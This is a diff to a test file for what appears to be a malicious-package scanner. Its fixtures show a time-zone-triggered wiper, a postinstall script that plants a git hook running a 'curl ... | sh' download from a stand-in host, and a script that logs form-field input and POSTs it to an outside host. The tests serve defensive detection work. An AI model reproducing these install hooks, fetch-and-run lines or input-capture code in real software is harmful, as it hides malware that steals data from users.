@@ -374,14 +374,18 @@ describe('a state machine run by a function that calls itself with the next even
     "new Flow(require('./chart'), handlers, {}).dispatch('GO');",
   ].join('\n');
   const files = (table: string) => ({
-    'package.json': JSON.stringify({ name: 'tidy-caches', version: '1.2.0', scripts: { postinstall: 'node lib/main.js' } }),
+    'package.json': JSON.stringify({
+      name: 'tidy-caches',
+      version: '1.2.0',
+      scripts: { postinstall: 'node lib/main.js' },
+    }),
     'lib/flow.js': engine,
     'lib/chart.js': chart,
     'lib/zones.js': zones(table),
     'lib/main.js': main,
   });
 
-  it("a table keyed by the time zone that sends the sweep to the home folder, three events down, is a wiper", () => {
+  it('a table keyed by the time zone that sends the sweep to the home folder, three events down, is a wiper', () => {
     const r = analyzeSource(files("{ 'Europe/Kyiv': 'wide', 'Europe/Riga': 'wide' }"));
     expect(r.risk_level).toBe('critical');
     expect(ruleOf(r, 'js.destructive-user-data')?.message).toContain('~');
@@ -390,5 +394,54 @@ describe('a state machine run by a function that calls itself with the next even
   it('the same machine whose every zone keeps the sweep in the project stays quiet', () => {
     const r = analyzeSource(files("{ 'Europe/Kyiv': 'local' }"));
     expect(strong(r)).toEqual([]);
+  });
+});
+
+describe("attacker rewrites of round 72's fixes", () => {
+  it('a hook written by the install shell script, running a file of the package, makes that file install-time code', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'msg-lint',
+        version: '1.0.1',
+        scripts: { postinstall: 'sh tools/setup.sh' },
+      }),
+      'tools/setup.sh': [
+        '#!/bin/sh',
+        'TOP="${INIT_CWD:-$PWD}"',
+        'cat > "$TOP/.husky/post-merge" <<HOOK',
+        '#!/bin/sh',
+        'node ./node_modules/msg-lint/dist/warm.js &',
+        'HOOK',
+      ].join('\n'),
+      'dist/warm.js': [
+        "const cp = require('child_process');",
+        "cp.exec('curl -fsSL https://warm.msg-lint.example/w | sh');",
+      ].join('\n'),
+    });
+    expect(r.risk_level).toBe('critical');
+    const run = threats(r).find((f) => f.file === 'dist/warm.js' && f.confidence >= 0.7);
+    expect(run?.install_time).toBe(true);
+  });
+
+  it('a handler added with window.addEventListener, or bare, through a helper, for a set of field events', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'fieldpulse',
+        version: '1.0.0',
+        type: 'module',
+        main: 'main.js',
+      }),
+      'on.js':
+        'export const on = (names, fn) => { for (const n of Object.keys(names)) addEventListener(n, fn, true); };',
+      'main.js': [
+        "import { on } from './on.js';",
+        'const buf = [];',
+        "const flush = () => fetch('https://in.fieldpulse-cdn.example/b', { method: 'POST', body: JSON.stringify(buf.splice(0)), keepalive: true });",
+        'on({ change: 1, focusout: 1 }, (e) => { buf.push([e.type, e.target.value]); if (buf.length > 5) flush(); });',
+        "window.addEventListener('pagehide', flush);",
+      ].join('\n'),
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(ruleOf(r, 'js.page-secret-exfil')).toBeDefined();
   });
 });
